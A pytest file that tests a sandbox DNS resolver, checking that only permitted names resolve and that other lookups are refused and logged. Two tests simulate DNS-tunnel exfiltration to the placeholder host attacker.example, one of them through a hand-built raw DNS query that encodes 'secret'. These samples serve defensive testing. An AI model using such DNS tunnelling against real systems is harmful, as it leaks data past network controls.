"""Names: what was opened is answered and pinned, what wasn't reaches no name server."""

import socket
import struct

import pytest

from pipeline.airflow.kernel.names import Resolver, question, system
from pipeline.airflow.kernel.openings import Opening, Openings

KNOWN = """
    asked = os.path.abspath('asked')  # the notifier's working directory is /
    def resolve(name):
        with open(asked, 'a') as file:
            file.write(name + '\\n')
        if name == 'lake.example':
            return [ALLOWED[0]]
        raise OSError(name)
"""
ORDER = "resolve=resolve"
LAKE = "allow([Opening('lake.example', ALLOWED[1])])\n"


def test_an_opened_name_is_connected_to(run):
    seen = run(
        LAKE
        + """
with socket.create_connection(('lake.example', ALLOWED[1])) as s:
    s.sendall(b'hello')
    said['it'] = s.recv(5).decode()
""",
        before=KNOWN,
        order=ORDER,
    )
    assert (seen.said, seen.violations) == ({"it": "hello"}, [])


@pytest.mark.parametrize("options", ["", "use-vc"], ids=["UDP", "TCP"])
def test_an_opened_name_is_connected_to_by_other_programs(run, options):
    seen = run(
        LAKE
        + "said['it'] = subprocess.run(['getent', 'ahostsv4', 'lake.example'], capture_output=True).stdout.decode().split()[0]",
        before=KNOWN,
        order=ORDER,
        environment={"RES_OPTIONS": options},
    )
    assert (seen.said, seen.violations) == ({"it": "127.0.0.1"}, [])


def test_another_port_of_an_opened_name_stays_shut(run):
    seen = run(
        LAKE + "said['it'] = outcome(lambda: socket.create_connection(('lake.example', 9)))", before=KNOWN, order=ORDER
    )
    assert seen.said == {"it": "EACCES"}


def test_no_other_name_is_asked_of_anyone(run, tmp_path):
    seen = run(
        LAKE + "said['it'] = outcome(lambda: socket.getaddrinfo('1850275123456.attacker.example', 443))",
        before=KNOWN,
        order=ORDER,
    )
    assert seen.said == {"it": "gaierror"}
    assert set((tmp_path / "asked").read_text().split()) == {"lake.example"}
    assert set(seen.violations) == {"name 1850275123456.attacker.example"}


def test_a_tunnel_of_its_own_making_ends_in_the_notifier(run, tmp_path):
    seen = run(
        """
        from pipeline.airflow.kernel.names import system
        server = sorted(system().servers)[0]
        s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((server, 53))
        s.settimeout(5)
        query = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
        s.send(query + b'\\x06secret\\x08attacker\\x07example\\x00' + struct.pack('>HH', 16, 1))
        said['code'] = s.recv(512)[3] & 0xF
        """,
        before=KNOWN,
        order=ORDER,
    )
    assert seen.said == {"code": 3}
    assert seen.violations == ["name secret.attacker.example"]
    assert not (tmp_path / "asked").exists()


def test_another_name_server_is_shut(run):
    seen = run(
        """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        said['it'] = outcome(lambda: s.sendto(b'x', ('127.0.0.2', 53)))
        """
    )
    assert (seen.said, seen.violations) == ({"it": "EACCES"}, ["send 127.0.0.2:53"])


# The resolver by itself.


def ask(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


@pytest.fixture
def resolver():
    refused = []
    addresses = {"lake.example": ["192.0.2.1", "2001:db8::1"], "database": ["192.0.2.2"]}
    openings = Openings(lambda name: addresses[name])
    for name in addresses:
        openings.add(Opening(name, 443))
    made = Resolver(openings, refused.append)
    made.system = made.system._replace(search=("svc.cluster.local",))
    made.refused = refused
    yield made
    made.close()


@pytest.mark.parametrize(("kind", "length", "address"), [(1, 4, "192.0.2.1"), (28, 16, "2001:db8::1")])
def test_an_answer_holds_the_addresses_of_the_family_asked_for(resolver, kind, length, address):
    answer = resolver.answer(ask("Lake.Example", kind))
    family = socket.AF_INET if kind == 1 else socket.AF_INET6
    assert (answer[3] & 0xF, int.from_bytes(answer[6:8], "big")) == (0, 1)
    assert socket.inet_ntop(family, answer[-length:]) == address
    assert question(ask("Lake.Example", kind)).raw in answer


def test_other_records_of_an_opened_name_are_empty(resolver):
    answer = resolver.answer(ask("lake.example", 16))
    assert (answer[3] & 0xF, int.from_bytes(answer[6:8], "big")) == (0, 0)


@pytest.mark.parametrize(
    "name", ["lake.example.svc.cluster.local", "database.svc.cluster.local", "1.2.0.192.in-addr.arpa"]
)
def test_what_resolvers_ask_by_themselves_is_refused_without_blame(resolver, name):
    kind = 12 if name.endswith("arpa") else 1
    assert resolver.answer(ask(name, kind))[3] & 0xF == 3
    assert resolver.refused == []


def test_a_name_below_an_opened_one_is_another_name(resolver):
    assert resolver.answer(ask("secret.lake.example"))[3] & 0xF == 3
    assert resolver.refused == ["secret.lake.example"]


@pytest.mark.parametrize("message", [b"", b"short", ask("lake.example")[:-3], b"\xff" * 64])
def test_what_is_no_question_gets_no_address(resolver, message):
    answer = resolver.answer(message)
    assert answer is None or answer[6:8] == b"\0\0"


def test_resolv_conf_is_read_as_glibc_reads_it(tmp_path):
    (tmp_path / "resolv.conf").write_text(
        "# x\nnameserver 192.0.2.53\nnameserver fe80::1%eth0\nsearch a.example b.example\n"
    )
    read = system(tmp_path / "resolv.conf")
    assert read == (frozenset({"192.0.2.53", "fe80::1"}), ("a.example", "b.example"))


def test_without_resolv_conf_the_loopback_is_the_name_server(tmp_path):
    assert system(tmp_path / "none").servers == {"127.0.0.1"}
